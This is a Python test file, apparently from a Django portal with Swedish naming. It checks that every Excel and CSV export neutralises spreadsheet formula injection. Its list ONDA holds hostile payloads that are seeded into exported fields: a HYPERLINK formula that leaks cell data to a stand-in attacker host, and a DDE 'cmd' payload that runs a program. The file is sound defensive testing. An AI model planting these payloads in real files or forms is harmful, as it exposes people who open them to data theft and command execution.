"""Exports carry text, not formulas (issue 18): names that a spreadsheet would run as a
formula (OWASP's CSV injection) are put into every field the portal exports, every export is
downloaded and opened, and no cell is a formula and no CSV field begins with =, +, -, @, a tab
or a carriage return unless it is a number. And no module but forbund/export.py writes Excel
or CSV itself."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
from django.core.management import call_command
from django.urls import reverse

from ekonomi.models import Budgetpost, Konto
from enkater.models import Formular, Fraga, Omgang
from forbund.export import FARLIGA_BORJAN
from forbund.models import Part
from insatser.models import Insats, Mal, Period

from .conftest import client_for
from .test_permission_matrix import _utfall_2021

ROOT = Path(__file__).resolve().parent.parent

ONDA = [
    '=HYPERLINK("http://angripare.example/?leak="&A2,"klick")',
    "+SUM(A1:A9)",
    '-2+3+cmd|" /C calc"!A0',
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]
TAL = re.compile(r"-?\d+([.,]\d+)?")


def _ondskefulla_namn():
    """Every text a user or a file can put into an export."""
    for i, insats in enumerate(Insats.objects.order_by("pk")):
        insats.namn = f"{ONDA[i % len(ONDA)]} {i}"
        insats.save(update_fields=["namn"])
    for i, mal in enumerate(Mal.objects.all()):
        mal.beskrivning = ONDA[i % len(ONDA)]
        mal.save(update_fields=["beskrivning"])
    kommun = Part.objects.get(typ=Part.Typ.KOMMUN)
    kommun.namn = ONDA[0]
    kommun.save(update_fields=["namn"])
    for i, post in enumerate(Budgetpost.objects.all()):
        post.namn = f"{ONDA[i % len(ONDA)]} {i}"
        post.save(update_fields=["namn"])
    for i, konto in enumerate(Konto.objects.all()):
        konto.namn = ONDA[i % len(ONDA)]
        konto.save(update_fields=["namn"])
    for formular in Formular.objects.all():
        formular.namn = ONDA[1]
        formular.save(update_fields=["namn"])
    for fraga in Fraga.objects.filter(formular__kod="deltagare_avslut", nummer="1"):
        fraga.nummer = "@1+1"
        fraga.save(update_fields=["nummer"])


def _exporter():
    """(what, URL) of every Excel and CSV file the portal serves."""
    period = Period.objects.filter(status=Period.Status.GODKAND).order_by("fran").first()
    demo_omgang = Omgang.objects.filter(formular__kod="deltagare_avslut").order_by("pk").first()
    urls = [
        ("insatslistan", reverse("insats_list_xlsx") + "?ar=2022"),
        *(
            (f"insats {i.pk}", reverse("insats_xlsx", kwargs={"pk": i.pk}))
            for i in Insats.objects.all()
        ),
        (
            "SUS-rapporten",
            reverse("sus_rapport") + f"?fran={period.fran}&till={period.till}&format=xlsx",
        ),
        ("enkätsvaren", reverse("omgang_export", kwargs={"pk": demo_omgang.pk})),
        ("saldolistan", reverse("ekonomi_saldolista") + "?ar=2021"),
        ("behovsanalysens exempelfil", reverse("behovsanalys_exempel")),
    ]
    for fmt in ("xlsx", "csv"):
        urls += [
            (
                f"enkätresultatet ({fmt})",
                reverse("omgang_resultat", kwargs={"pk": demo_omgang.pk}) + f"?format={fmt}",
            ),
            (
                f"jämförelsen ({fmt})",
                reverse("enkat_jamforelse", kwargs={"kod": "deltagare_avslut"})
                + f"?dela=insats&kon=1&format={fmt}",
            ),
            (
                f"budgetuppföljningen ({fmt})",
                reverse("ekonomi_uppfoljning", kwargs={"ar": 2021}) + f"?format={fmt}",
            ),
            (
                f"delårsrapporten ({fmt})",
                reverse("ekonomi_delarsrapport", kwargs={"ar": 2021}) + f"?format={fmt}",
            ),
        ]
    return urls


def _granska_xlsx(namn: str, data: bytes, texter: list[str]) -> list[str]:
    fel = []
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for rad in ws.iter_rows():
            for cell in rad:
                if cell.data_type == "f":
                    fel.append(f"{namn}: {ws.title}!{cell.coordinate} är en formel: {cell.value}")
                elif cell.data_type not in ("s", "inlineStr", "n", "d"):
                    fel.append(f"{namn}: {ws.title}!{cell.coordinate} har typen {cell.data_type}")
                if isinstance(cell.value, str):
                    texter.append(cell.value)
    return fel


def _granska_csv(namn: str, data: bytes, texter: list[str]) -> list[str]:
    fel = []
    text = data.decode("utf-8-sig")
    for rad in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        for falt in rad:
            texter.append(falt)
            if falt.startswith(FARLIGA_BORJAN) and not TAL.fullmatch(falt):
                fel.append(f"{namn}: fältet {falt!r} börjar som en formel")
    return fel


def test_every_export_carries_text_not_formulas(enkat, tmp_path):
    from devtools import demo_behovsanalys

    demo_behovsanalys.load()
    _utfall_2021()
    _ondskefulla_namn()
    kansli = client_for("forbundschef")
    fel, texter, antal = [], [], 0
    for namn, url in _exporter():
        svar = kansli.get(url)
        assert svar.status_code == 200, f"{namn}: {url} gav {svar.status_code}"
        typ = svar["Content-Type"]
        if "spreadsheetml" in typ:
            fel += _granska_xlsx(namn, svar.content, texter)
        else:
            assert "text/csv" in typ, f"{namn}: {typ}"
            fel += _granska_csv(namn, svar.content, texter)
        antal += 1
    # The same reports written by the management commands.
    omgang = Omgang.objects.filter(formular__kod="deltagare_avslut").order_by("pk").first()
    for fmt in ("xlsx", "csv"):
        ut = tmp_path / f"enkat.{fmt}"
        call_command("enkatrapport", omgang=omgang.pk, format=fmt, output=str(ut))
        granska = _granska_xlsx if fmt == "xlsx" else _granska_csv
        fel += granska(f"enkatrapport {fmt}", ut.read_bytes(), texter)
        ut = tmp_path / f"budget.{fmt}"
        call_command("budgetuppfoljning", ar=2021, format=fmt, output=str(ut))
        fel += granska(f"budgetuppfoljning {fmt}", ut.read_bytes(), texter)
        antal += 2
    assert fel == []
    assert antal >= 20
    # The names did reach the files, as text: the test would have found a formula.
    for ond in ONDA:
        assert any(ond.strip() in t for t in texter), f"{ond!r} finns i ingen export"
    assert any(t.startswith("'=HYPERLINK") for t in texter)  # a CSV field, neutralised


def test_no_module_writes_excel_or_csv_past_the_helper():
    """One helper for every export: nothing else builds a workbook or a CSV writer."""
    monster = re.compile(r"openpyxl\.Workbook\(|csv\.(writer|DictWriter)\(|\.save\(\s*path")
    traffar = []
    for fil in ROOT.glob("*/**/*.py"):
        delar = fil.relative_to(ROOT).parts
        if delar[0] in {"tests", ".venv", "var", "static"} or "migrations" in delar:
            continue
        if fil.relative_to(ROOT).as_posix() == "forbund/export.py":
            continue
        for nr, rad in enumerate(fil.read_text().splitlines(), start=1):
            if monster.search(rad):
                traffar.append(f"{fil.relative_to(ROOT)}:{nr}: {rad.strip()}")
    assert traffar == []


def test_a_number_stays_a_number_and_a_formula_cell_is_refused():
    from forbund.export import arbetsbok, csv_text, skriv_rad, xlsx_bytes

    assert csv_text([[-288, 1.5, "-288", "Kvinnor"]]) == "-288;1,5;'-288;Kvinnor\r\n"
    wb = arbetsbok()
    skriv_rad(wb.active, ["=1+1", -5, dt.date(2022, 1, 21), "a\x00b\x1fc"])
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(wb))).active
    assert [c.data_type for c in ws[1]] == ["s", "n", "d", "s"]
    assert [ws["A1"].value, ws["B1"].value, ws["D1"].value] == ["=1+1", -5, "abc"]
    wb.active.append(["=1+1"])  # past the helper
    try:
        xlsx_bytes(wb)
    except ValueError as exc:
        assert "Formel" in str(exc)
    else:
        raise AssertionError("en formelcell skickades ut")
